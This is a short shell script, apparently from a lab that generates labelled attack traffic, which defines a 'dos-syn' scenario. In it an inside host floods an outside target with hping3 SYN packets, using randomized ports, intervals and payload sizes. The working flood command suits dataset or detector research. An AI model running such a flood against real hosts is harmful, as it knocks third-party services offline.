# SPDX-License-Identifier: MIT
# label: dos-syn
# source: lab-hping3
# needs: hping3
# seconds: 60
# A host inside floods one outside, as bots do; one port or several.
. $lab/victims.sh

scenario() {
	_ports=$(choose "-p 80" "-p 53" "-p ++1" "-p 25565")
	_gap=$(choose u500 u1500)
	_data=$(choose "" "-d 120" "-d 900")
	setting options "-S $_ports -i $_gap $_data"
	attack c t tcp 0 -- timeout "$(pick 10 20)" hping3 -q -n -S $_ports \
		-i "$_gap" $_data "$(addr t)"
}
